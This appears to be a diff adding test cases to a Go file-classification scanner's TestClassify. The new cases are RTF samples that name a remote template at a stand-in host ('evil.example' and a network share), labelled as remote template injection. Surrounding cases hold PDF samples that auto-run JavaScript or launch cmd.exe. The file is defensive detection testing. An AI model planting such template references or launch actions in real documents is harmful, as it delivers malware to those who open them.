@@ -89,6 +89,14 @@ func TestClassify(t *testing.T) {
 			class: ClassEncryptedArchive, enc: true, findings: []string{"office: encrypted document"}},
 		{name: "rtf with object", data: []byte(`{\rtf1\ansi{\object\objemb{\*\objdata 0105000002}}}`), filename: "a.rtf",
 			class: ClassOffice, sniffed: "application/rtf", findings: []string{"office: embedded object"}},
+		// Word fetches the template an RTF names, as a DOCX's external
+		// attachedTemplate (blocked): remote template injection (red team).
+		{name: "rtf with a remote template", data: []byte(`{\rtf1\ansi{\*\template http://evil.example/t.dotm}hello}`), filename: "a.rtf",
+			class: ClassOffice, sniffed: "application/rtf", findings: []string{"office: external reference template"}},
+		{name: "rtf with a template on a share and an object", data: []byte(`{\rtf1\ansi{\*\template \\\\evil\\s\\t.dotm}{\object\objemb{\*\objdata 01}}}`), filename: "a.rtf",
+			class: ClassOffice, sniffed: "application/rtf", findings: []string{"office: external reference template", "office: embedded object"}},
+		{name: "plain rtf", data: []byte(`{\rtf1\ansi{\fonttbl{\f0 MS Mincho;}}\f0 templates and objects}`), filename: "a.rtf",
+			class: ClassOffice, sniffed: "application/rtf", clean: true},
 		{name: "pdf javascript", data: pdfFile("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), filename: "a.pdf",
 			class: ClassPDF, findings: []string{"pdf: javascript"}},
 		{name: "pdf hex-escaped names", data: pdfFile("/OpenAction << /S /L#61unch /F (cmd.exe) >> /Names << /#45mbeddedFiles 3 0 R >>"), filename: "a.pdf",
